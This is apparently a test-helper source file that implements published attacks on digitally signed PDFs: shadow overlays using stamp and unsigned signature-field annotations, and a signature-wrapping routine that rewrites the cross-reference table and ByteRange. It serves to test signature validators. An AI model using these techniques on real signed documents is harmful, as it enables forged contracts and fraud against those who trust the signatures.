/** Ways to attack a signed PDF, for the tests: Mladenov et al., "1 Trillion Dollar Refund" and "Shadow Attacks". */
import { PDF, PdfArray, PdfDict, PdfName, PdfNumber, PdfRef, PdfStream, PdfString } from '@libpdf/core'
import { byteRanges } from './judges.ts'

/** Appends an incremental update made by an attacker without a key. */
export async function tamper(file: Buffer, change: (pdf: PDF) => void): Promise<Buffer> {
  const pdf = await PDF.load(file)
  change(pdf)
  return Buffer.from(await pdf.save({ incremental: true }))
}

export const dict = (pdf: PDF, value: unknown): PdfDict => {
  const found = value instanceof PdfRef ? pdf.getObject(value) : value
  if (!(found instanceof PdfDict)) throw new Error('dictionary expected')
  return found
}

export const stream = (pdf: PDF, value: unknown): PdfStream => {
  const found = dict(pdf, value instanceof PdfArray ? value.at(0) : value)
  if (!(found instanceof PdfStream)) throw new Error('stream expected')
  return found
}

export const firstPage = (pdf: PDF): PdfDict => {
  const page = pdf.getPage(0)
  if (!page) throw new Error('page expected')
  return page.dict
}

/** The widget of the first signature. */
export function widget(pdf: PDF): PdfDict {
  const annotations = firstPage(pdf).get('Annots')
  return dict(pdf, (annotations as PdfArray).at(0))
}

/** A white rectangle with a black bar, drawn over `rect`. */
export function cover(pdf: PDF, rect: number[]): PdfRef {
  const [x1 = 0, y1 = 0, x2 = 0, y2 = 0] = rect
  const box = new PdfArray([0, 0, x2 - x1, y2 - y1].map((value) => PdfNumber.of(value)))
  const form = { Type: PdfName.of('XObject'), Subtype: PdfName.of('Form'), BBox: box }
  return pdf.register(new PdfStream(PdfDict.of(form), Buffer.from(`1 g 0 0 ${x2 - x1} ${y2 - y1} re f 0 g 5 5 50 8 re f`)))
}

/** A stamp annotation that covers text. */
export function stamp(pdf: PDF, rect = [80, 690, 320, 720]): PdfRef {
  const annotation = {
    Type: PdfName.of('Annot'),
    Subtype: PdfName.of('Stamp'),
    F: PdfNumber.of(4),
    Rect: new PdfArray(rect.map((value) => PdfNumber.of(value))),
    AP: PdfDict.of({ N: cover(pdf, rect) }),
  }
  return pdf.register(PdfDict.of(annotation))
}

export function addAnnotation(pdf: PDF, ref: PdfRef): void {
  const page = firstPage(pdf)
  const existing = page.get('Annots')
  page.set('Annots', new PdfArray([...(existing instanceof PdfArray ? existing : []), ref]))
}

/** An unsigned signature field that nevertheless draws over the text. */
export function unsignedField(pdf: PDF): PdfRef {
  const field = dict(pdf, stamp(pdf))
  field.set('Subtype', PdfName.of('Widget'))
  field.set('FT', PdfName.of('Sig'))
  field.set('T', PdfString.fromString('Signature1'))
  return pdf.register(field)
}

/**
 * Signature wrapping: the signed second part moves to the end of the file, and what the reader finds at the old
 * cross-reference position is the attacker's, with another page content and a ByteRange that skips all of it.
 */
export async function wrap(file: Buffer): Promise<Buffer> {
  const [, gapStart = 0, gapEnd = 0, rest = 0] = byteRanges(file)[0] ?? []
  const tail = file.subarray(gapEnd)
  const xrefAt = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(file.toString('latin1'))?.[1])
  const padding = Buffer.alloc(xrefAt - gapEnd, ' ')
  const pdf = await PDF.load(file)
  const content = contentNumber(pdf)
  const red = '1 0 0 rg 60 600 400 200 re f'
  const objects = `${content} 0 obj\n<< /Length ${red.length} >>\nstream\n${red}\nendstream\nendobj\n`
  const entries = signedEntries(file, xrefAt)
  const isSignature = (at: number): boolean => /^\d+ 0 obj\s*<<\s*\/Type \/Sig\s/.test(file.toString('latin1', at, at + 60))
  const signature = entries.find(([, at]) => isSignature(at))
  const build = (tailAt: number): Buffer => {
    const moved = entries.map(([number, at]) => [number, at < gapStart ? at : at - gapEnd + tailAt] as const)
    const format = '/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached'
    const copy = `${signature?.[0]} 0 obj\n<< ${format} /ByteRange [0 ${gapStart} ${tailAt} ${rest}] /Contents `
    const parts = { file, gapStart, gapEnd, padding, moved, copy, objects, content, tail, xrefAt }
    return assemble({ ...parts, signature: signature?.[0] ?? 0 })
  }
  return build(build(file.length * 2).length - tail.length)
}

type Parts = {
  file: Buffer
  gapStart: number
  gapEnd: number
  padding: Buffer
  moved: (readonly [number, number])[]
  signature: number
  copy: string
  objects: string
  content: number
  tail: Buffer
  xrefAt: number
}

function assemble({ file, gapStart, gapEnd, padding, moved, signature, copy, objects, content, tail, xrefAt }: Parts): Buffer {
  const gap = file.subarray(gapStart, gapEnd)
  const trailer = /trailer\s*(<<[\s\S]*?>>)\s*startxref/.exec(file.toString('latin1', xrefAt))?.[1] ?? ''
  const table = (bodyAt: number): string => {
    const entries = [...moved.filter(([number]) => number !== signature), [signature, bodyAt] as const]
    const all = [...entries, [content, bodyAt + copy.length + gap.length + ' >>\nendobj\n'.length] as const]
    const lines = all.map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
    return `xref\n${lines.join('')}trailer\n${trailer}\nstartxref\n${xrefAt}\n%%EOF\n`
  }
  const bodyAt = xrefAt + table(0).length
  const body = Buffer.concat([Buffer.from(copy), gap, Buffer.from(` >>\nendobj\n${objects}`)])
  return Buffer.concat([file.subarray(0, gapEnd), padding, Buffer.from(table(bodyAt)), body, tail])
}

function contentNumber(pdf: PDF): number {
  const contents = firstPage(pdf).get('Contents')
  const ref = contents instanceof PdfArray ? contents.at(0) : contents
  if (!(ref instanceof PdfRef)) throw new Error('content reference expected')
  return ref.objectNumber
}

/** Object numbers and offsets of the cross-reference section at `at`. */
function signedEntries(file: Buffer, at: number): [number, number][] {
  const entries: [number, number][] = []
  const lines = file.toString('latin1', at, file.indexOf('trailer', at)).split(/\r?\n/).slice(1)
  let next = 0
  for (const line of lines) {
    const [first = '', second = '', kind] = line.trim().split(/\s+/)
    if (kind === 'n') entries.push([next++, Number(first)])
    else if (kind === 'f') next++
    else if (second) next = Number(first)
  }
  return entries
}
